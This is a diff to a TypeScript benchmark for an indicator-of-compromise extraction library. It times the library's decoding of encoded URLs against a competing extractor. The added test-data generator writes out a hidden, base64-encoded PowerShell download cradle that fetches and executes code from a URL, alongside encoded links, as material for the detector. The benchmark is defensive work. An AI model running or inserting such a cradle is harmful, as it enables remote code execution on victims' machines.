@@ -58,6 +58,30 @@ function corpus(minBytes: number): string {
   return parts.join('');
 }
 
+// Lines whose indicators are encoded, one layer each (the decode budget is per call, so the corpus is
+// extracted line by line, as the pipeline does per field).
+function encodedLine(): string {
+  const u = url();
+  const k = rnd();
+  if (k < 0.25) return `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${u}')`, 'utf16le').toString('base64')}`;
+  if (k < 0.4) return `$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(u).toString('base64')}'))`;
+  if (k < 0.6) return `<a href="https://eur02.safelinks.protection.outlook.com/?url=${encodeURIComponent(u)}&data=05%7C02%7C${hex(24)}&sdata=${hex(20)}&reserved=0">${pick(WORDS)}</a>`;
+  if (k < 0.75) return `https://urldefense.proofpoint.com/v2/url?u=${encodeURIComponent(u).replace(/-/g, '%2D').replace(/_/g, '%5F').replace(/%/g, '-').replace(/\//g, '_')}&d=DwMFaQ&c=${hex(20)}&e=`;
+  if (k < 0.85) return `https://urldefense.com/v3/__${u.replace(/\?/g, '*')}__;Pw!!${hex(10)}!${hex(12)}$`;
+  return `GET /go.php?to=${encodeURIComponent(u)}&ref=mail HTTP/1.1`;
+}
+function encodedCorpus(minBytes: number): string {
+  const lines: string[] = [];
+  let len = 0;
+  while (len < minBytes) {
+    const l = encodedLine();
+    lines.push(l);
+    len += l.length + 1;
+  }
+  return lines.join('\n');
+}
+const NO_DECODE = { decode: false } as const;
+
 // ---- helpers ----
 function time(fn: () => void, runs: number): number {
   let best = Infinity;
@@ -86,12 +110,38 @@ for (let round = 0; round < 4; round++) {
   tH = Math.min(tH, time(() => extractIocsFromText(text), 1));
   tX = Math.min(tX, time(() => extractIOC(text), 1));
 }
+// Decoding layers: what they cost on this corpus (nothing here is encoded, so only their checks run),
+// and their throughput on text that is mostly encoded (command lines, rewritten links).
+let tOff = Infinity;
+let tOn = Infinity;
+// More rounds than above: the difference measured is small next to a shared machine's noise.
+for (let round = 0; round < 12; round++) {
+  tOn = Math.min(tOn, time(() => extractIocsFromText(text), 1));
+  tOff = Math.min(tOff, time(() => extractIocsFromText(text, NO_DECODE), 1));
+}
 const vMBs = mb(text) / (tV / 1000);
 const xMBs = mb(text) / (tX / 1000);
 console.log(`vigil extractIocs            ${f1(vMBs).padStart(7)} MB/s  (${tV.toFixed(0)} ms)`);
 console.log(`vigil extractIocsFromText    ${f1(mb(text) / (tH / 1000)).padStart(7)} MB/s  (${tH.toFixed(0)} ms)`);
 console.log(`ioc-extractor extractIOC     ${f1(xMBs).padStart(7)} MB/s  (${tX.toFixed(0)} ms)`);
 console.log(`ratio vigil / ioc-extractor  ${f1(vMBs / xMBs).padStart(7)}×  (goal ≥ 4×)`);
+console.log(`decoding layers on this corpus: ${f1(mb(text) / (tOn / 1000))} MB/s with, ${f1(mb(text) / (tOff / 1000))} MB/s without (decode: false): ${(((tOn - tOff) / tOff) * 100).toFixed(1)}% of the time`);
+const encoded = encodedCorpus(1_000_000);
+const encodedLines = encoded.split('\n');
+let decodedUrls = 0;
+for (const l of encodedLines) decodedUrls += extractIocsFromText(l).filter((h) => h.type === 'url' && h.layers).length;
+const tEnc = time(() => encodedLines.forEach((l) => extractIocsFromText(l)), 3);
+const tEncOff = time(() => encodedLines.forEach((l) => extractIocsFromText(l, NO_DECODE)), 3);
+// and per line on the plain corpus, as the pipeline calls it (one field at a time)
+const plainLines = text.split('\n');
+let tLineOn = Infinity;
+let tLineOff = Infinity;
+for (let round = 0; round < 12; round++) {
+  tLineOn = Math.min(tLineOn, time(() => plainLines.forEach((l) => extractIocsFromText(l)), 1));
+  tLineOff = Math.min(tLineOff, time(() => plainLines.forEach((l) => extractIocsFromText(l, NO_DECODE)), 1));
+}
+console.log(`decoding layers per line of this corpus (${plainLines.length} lines): ${(((tLineOn - tLineOff) / tLineOff) * 100).toFixed(1)}% of the time`);
+console.log(`encoded corpus ${f1(mb(encoded))} MB (-enc command lines, FromBase64String, Safe Links, URL Defense v2/v3, %-encoded redirects): ${f1(mb(encoded) / (tEnc / 1000))} MB/s decoding (${decodedUrls} URLs decoded), ${f1(mb(encoded) / (tEncOff / 1000))} MB/s without`);
 
 const mine = extractIocs(text, { kind: 'text' });
 const theirs = extractIOC(text) as unknown as Record<string, string[]>;
